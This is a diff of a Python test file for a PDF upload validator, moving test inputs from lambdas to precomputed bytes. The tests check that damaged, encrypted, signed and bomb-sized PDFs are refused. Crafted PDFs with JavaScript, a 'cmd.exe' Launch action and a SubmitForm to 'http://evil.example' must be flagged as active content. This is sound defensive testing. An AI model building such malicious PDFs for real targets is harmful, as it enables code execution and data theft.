@@ -3,7 +3,6 @@
 from __future__ import annotations
 
 import io
-from collections.abc import Callable
 from typing import Any
 
 import pikepdf
@@ -58,26 +57,24 @@ def test_the_same_upload_gives_the_same_annex() -> None:
 
 
 @pytest.mark.parametrize(
-    ("made", "code"),
+    ("pdf", "code"),
     [
-        (bytes, "not_pdf"),
-        (lambda: b"PK\x03\x04 a Word file", "not_pdf"),
-        (lambda: b"%PDF-1.7\nnothing more", "damaged"),
-        (lambda: GOOD[: len(GOOD) // 2], "damaged"),
-        (lambda: GOOD[:-60], "damaged"),
-        (lambda: changed(GOOD, portable.with_broken_content, **RAW), "damaged"),
-        (lambda: changed(GOOD, lambda _: None, encryption=Encryption(user="secret", owner="o")), "encrypted"),
+        (b"", "not_pdf"),
+        (b"PK\x03\x04 a Word file", "not_pdf"),
+        (b"%PDF-1.7\nnothing more", "damaged"),
+        (GOOD[: len(GOOD) // 2], "damaged"),
+        (GOOD[:-60], "damaged"),
+        (changed(GOOD, portable.with_broken_content, **RAW), "damaged"),
+        (changed(GOOD, lambda _: None, encryption=Encryption(user="secret", owner="o")), "encrypted"),
         (
-            lambda: changed(
-                GOOD, lambda _: None, encryption=Encryption(owner="o", allow=Permissions(modify_assembly=False))
-            ),
+            changed(GOOD, lambda _: None, encryption=Encryption(owner="o", allow=Permissions(modify_assembly=False))),
             "restricted",
         ),
-        (lambda: changed(GOOD, portable.with_signature), "signed"),
-        (lambda: changed(GOOD, portable.with_bomb(300 << 20)), "bomb"),
-        (lambda: changed(GOOD, portable.with_bomb(64 << 20, packed=2), **RAW), "bomb"),
-        (lambda: changed(GOOD, portable.with_huge_image), "bomb"),
-        (lambda: changed(GOOD, lambda pdf: pdf.pages.__delitem__(slice(0, 2))), "empty"),
+        (changed(GOOD, portable.with_signature), "signed"),
+        (changed(GOOD, portable.with_bomb(300 << 20)), "bomb"),
+        (changed(GOOD, portable.with_bomb(64 << 20, packed=2), **RAW), "bomb"),
+        (changed(GOOD, portable.with_huge_image), "bomb"),
+        (changed(GOOD, lambda pdf: pdf.pages.__delitem__(slice(0, 2))), "empty"),
     ],
     ids=[
         "empty file",
@@ -95,41 +92,36 @@ def test_the_same_upload_gives_the_same_annex() -> None:
         "no pages",
     ],
 )
-def test_what_cannot_be_read_safely_is_refused(made: Callable[[], bytes], code: str) -> None:
-    assert refusal(made()).code == code
+def test_what_cannot_be_read_safely_is_refused(pdf: bytes, code: str) -> None:
+    assert refusal(pdf).code == code
 
 
 @pytest.mark.parametrize(
-    ("made", "named"),
+    ("pdf", "named"),
     [
-        (lambda: changed(GOOD, with_action("JavaScript", JS=String("app.alert(1)"))), "JavaScript"),
-        (lambda: changed(GOOD, with_action("Launch", F=String("cmd.exe"))), "starts a program"),
-        (lambda: changed(GOOD, with_action("SubmitForm", F=String("http://evil.example"))), "sends data"),
-        (lambda: changed(GOOD, with_action("ImportData", F=String("x.fdf"))), "imports data"),
-        (lambda: changed(GOOD, with_action("GoTo", Next=Dictionary(S=Name.JavaScript, JS=String("1")))), "JavaScript"),
+        (changed(GOOD, with_action("JavaScript", JS=String("app.alert(1)"))), "JavaScript"),
+        (changed(GOOD, with_action("Launch", F=String("cmd.exe"))), "starts a program"),
+        (changed(GOOD, with_action("SubmitForm", F=String("http://evil.example"))), "sends data"),
+        (changed(GOOD, with_action("ImportData", F=String("x.fdf"))), "imports data"),
+        (changed(GOOD, with_action("GoTo", Next=Dictionary(S=Name.JavaScript, JS=String("1")))), "JavaScript"),
+        (changed(GOOD, with_annotation("Link", A=Dictionary(S=Name.Launch, F=String("x")))), "starts a program"),
         (
-            lambda: changed(GOOD, with_annotation("Link", A=Dictionary(S=Name.Launch, F=String("x")))),
-            "starts a program",
-        ),
-        (
-            lambda: changed(
-                GOOD, with_annotation("Link", AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("1"))))
-            ),
+            changed(GOOD, with_annotation("Link", AA=Dictionary(E=Dictionary(S=Name.JavaScript, JS=String("1"))))),
             "JavaScript",
         ),
-        (lambda: changed(GOOD, with_annotation("FileAttachment")), "embedded file"),
-        (lambda: changed(GOOD, with_annotation("RichMedia")), "sound or film"),
-        (lambda: changed(GOOD, with_annotation("Screen", A=Dictionary(S=Name.Rendition))), "sound or film"),
-        (lambda: changed(GOOD, with_annotation("3D")), "three-dimensional"),
-        (lambda: changed(GOOD, portable.with_embedded_file), "embedded file"),
-        (lambda: changed(GOOD, portable.with_xfa), "XFA"),
-        (lambda: changed(GOOD, portable.with_hidden_object), "JavaScript"),
-        (lambda: changed(GOOD, portable.with_layers(hidden=True)), "layers"),
+        (changed(GOOD, with_annotation("FileAttachment")), "embedded file"),
+        (changed(GOOD, with_annotation("RichMedia")), "sound or film"),
+        (changed(GOOD, with_annotation("Screen", A=Dictionary(S=Name.Rendition))), "sound or film"),
+        (changed(GOOD, with_annotation("3D")), "three-dimensional"),
+        (changed(GOOD, portable.with_embedded_file), "embedded file"),
+        (changed(GOOD, portable.with_xfa), "XFA"),
+        (changed(GOOD, portable.with_hidden_object), "JavaScript"),
+        (changed(GOOD, portable.with_layers(hidden=True)), "layers"),
     ],
     ids=lambda value: value if isinstance(value, str) else "pdf",
 )
-def test_active_content_is_refused_and_named(made: Callable[[], bytes], named: str) -> None:
-    refused = refusal(made())
+def test_active_content_is_refused_and_named(pdf: bytes, named: str) -> None:
+    refused = refusal(pdf)
     assert refused.code == "active_content"
     assert named in str(refused)
 
